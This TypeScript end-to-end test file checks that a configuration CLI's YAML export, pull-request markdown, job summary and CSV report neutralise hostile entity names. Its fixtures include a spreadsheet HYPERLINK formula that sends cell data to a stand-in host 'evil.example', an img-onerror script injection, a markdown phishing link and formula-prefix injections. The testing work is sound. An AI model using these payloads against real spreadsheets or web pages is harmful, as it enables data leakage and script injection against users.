import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Workspace } from '../support/e2e.js';
import { withoutFloor } from '../support/settings-text.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const HTML = '<img src=x onerror=alert(1)>';
const MARKDOWN = '**Billing** | [phish](http://evil.example) `code`';
const NEWLINE = 'Line one\n## Injected heading';
const LONG = 'L'.repeat(5_000);

describe('hostile names from the API stay inert', () => {
  let ws: Workspace;
  beforeEach(async () => {
    ws = await Workspace.create({ users: 50, seed: 8, days: 7 });
    const org = ws.emulator.org;
    const renames = new Map<string, string>();
    const hostile = [FORMULA, HTML, MARKDOWN, NEWLINE];
    org.skills.slice(0, hostile.length).forEach((skill, i) => {
      renames.set(skill.name, hostile[i]!);
      skill.name = hostile[i]!;
    });
    const queue = org.queues[0]!;
    renames.set(queue.name, `@SUM(1+1) ${HTML}`);
    queue.name = `@SUM(1+1) ${HTML}`;
    org.users[0]!.name = `+${FORMULA}`;
    org.users[1]!.name = LONG;
    for (const table of org.tables) {
      for (const [key, row] of [...table.rows]) {
        const [q, s] = key.split('|') as [string, string];
        const next = `${renames.get(q) ?? q}|${renames.get(s) ?? s}`;
        if (next === key) continue;
        table.rows.delete(key);
        table.rows.set(next, { ...row, key: next });
      }
    }
    org.configurationChanged();
  });
  afterEach(async () => {
    await ws.close();
  });

  it('in the YAML round trip, the PR body, the job summary and the CSV report', async () => {
    expect((await ws.cli(['export', '--out', 'desired-state'])).code).toBe(0);
    // not a test of the service-level floor, whose verdict depends on the time of day the suite runs
    await withoutFloor(ws.dir);
    const diff = await ws.cli(['diff']);
    expect(diff.stdout + diff.stderr).toBe('No changes. The org matches git.\n');

    const plan = await ws.cli(['plan', '--no-pr', '--days', '7']);
    expect(plan.code).toBe(0);
    const body = await readFile(join(ws.dir, 'plan', 'pull-request.md'), 'utf8').catch(() => '');
    const whatIf = await readFile(join(ws.dir, 'plan', 'what-if.md'), 'utf8').catch(() => '');
    for (const md of [body, whatIf]) {
      expect(md).not.toMatch(/(^|[^\\])<img/);
      expect(md).not.toContain('](http://evil');
      expect(md).not.toMatch(/^## Injected/m);
      for (const line of md.split('\n').filter((l) => l.startsWith('|'))) {
        // every table row keeps its shape: escaped pipes do not open new cells
        const cells = line.replace(/\\\|/g, '').split('|').length;
        expect(cells).toBeGreaterThan(2);
      }
    }
    expect(body.length).toBeLessThan(65_536);

    const apply = await ws.cli([
      'apply',
      '--report',
      'report.csv',
      '--summary',
      'summary.md',
      '--ignore-window',
    ]);
    expect(apply.code, apply.stderr + apply.stdout).toBe(0);
    const summary = await readFile(join(ws.cwd, 'summary.md'), 'utf8');
    expect(summary).not.toMatch(/(^|[^\\])<img/);
    expect(summary).not.toContain('](http://evil');
    const csv = await readFile(join(ws.cwd, 'report.csv'), 'utf8');
    const rows = parse<Record<string, string>>(csv.slice(1), { columns: true });
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
